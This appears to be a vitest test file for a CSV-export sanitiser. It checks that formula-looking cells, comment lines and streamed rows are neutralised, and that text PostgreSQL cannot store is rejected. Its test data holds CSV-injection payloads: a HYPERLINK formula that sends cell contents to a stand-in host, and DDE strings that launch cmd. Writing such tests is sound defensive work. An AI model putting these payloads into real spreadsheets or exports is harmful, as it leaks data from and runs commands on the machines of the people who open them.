import { parse } from "csv-parse/sync";
import { stringify as stringifySync } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { csvChunk, neutraliseCell, safeCsv, safeCsvCommentLine, safeCsvResponseBody } from "@/lib/csv/safe-csv";
import { consoleErrors } from "../support/console";
import { isStorableText, storableTextSchema, unstorableSearchParam } from "@/lib/validation";

const ATTACKS = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];

describe("safe CSV", () => {
  it("prefixes every formula-looking text cell with a quote, and leaves plain numbers and ordinary text alone", () => {
    for (const a of ATTACKS) expect(neutraliseCell(a)).toBe(`'${a}`);
    for (const ok of ["-1.0", "+3", "0.5", "-2e-5", "1.", "hello", "a=b", "p10000032", ""]) expect(neutraliseCell(ok)).toBe(ok);
  });

  it("writes files whose cells a spreadsheet reads as text", () => {
    const rows = parse(safeCsv([["name", "score"], ...ATTACKS.map((a) => [a, -1])]), { relax_column_count: true }) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toEqual(ATTACKS.map((a) => `'${a}`));
    expect(rows.slice(1).every((r) => r[1] === "-1")).toBe(true);
  });

  it("neutralises each piece of a comment line a spreadsheet would split", () => {
    expect(safeCsvCommentLine('# cohort "x,=HYPERLINK(1);+cmd\t-2+3, -1.0,ok"')).toBe(`# cohort "x,'=HYPERLINK(1);'+cmd\t'-2+3, -1.0,ok"`);
    expect(safeCsvCommentLine("# a\n=1")).toBe("# a =1");
  });

  it("streams the header and rows, and errors the stream (instead of hanging) when the source fails", async () => {
    async function* ok() {
      yield ["=1", 2];
    }
    expect(await new Response(safeCsvResponseBody({ columns: ["a", "b"], rows: ok(), what: "test" })).text()).toBe("a,b\n'=1,2\n");
    async function* failing() {
      yield ["x", 1];
      throw new Error("invalid byte sequence for encoding UTF8: 0x00");
    }
    consoleErrors.allowed = true;
    await expect(new Response(safeCsvResponseBody({ columns: ["a", "b"], rows: failing(), what: "test export" })).text()).rejects.toThrow();
  });
});

describe("text PostgreSQL can store", () => {
  it("refuses NUL and unpaired surrogates, accepts everything else", () => {
    expect(isStorableText("a\u0000b")).toBe(false);
    expect(isStorableText("\ud800x")).toBe(false);
    expect(isStorableText("x\udc00")).toBe(false);
    expect(isStorableText("😀 é ü \ufffd")).toBe(true);
    expect(storableTextSchema.safeParse("ok").success).toBe(true);
    expect(storableTextSchema.safeParse("\u0000").success).toBe(false);
    expect(unstorableSearchParam(new URLSearchParams("action=%00"))).toBe("action");
    expect(unstorableSearchParam(new URLSearchParams("a%00=1"))).toBe("a\u0000");
    expect(unstorableSearchParam(new URLSearchParams("a=%E0%A4%A&b=x"))).toBeNull();
  });
});

describe("the streamed chunks' own writer", () => {
  it("writes exactly what csv-stringify writes with the same neutralising, for every kind of cell", () => {
    const pieces = ["", "a", "files/p10/s1.jpg", "-1.0", "1.0", "=1+2", "+x", "-2+3", "@SUM(A1)", "\tx", "\rx", "a,b", 'say "hi"', "line\nbreak", "cr\rhere", " lead", "ünï", "'", ",", '"', "2180-01-01", "x y", "a;b"];
    const values: unknown[] = [...pieces, 0, -1, 1.5, 377673, null, undefined];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    const rows = Array.from({ length: 2000 }, () => Array.from({ length: 1 + (next() % 12) }, () => {
      const v = values[next() % values.length];
      return typeof v === "string" && next() % 3 === 0 ? `${v}${pieces[next() % pieces.length]}` : v;
    }));
    rows.push([new Date("2026-12-06T00:00:00Z"), true, "x"], []);
    expect(csvChunk(rows)).toBe(stringifySync(rows, { cast: { string: neutraliseCell } }));
  });
});
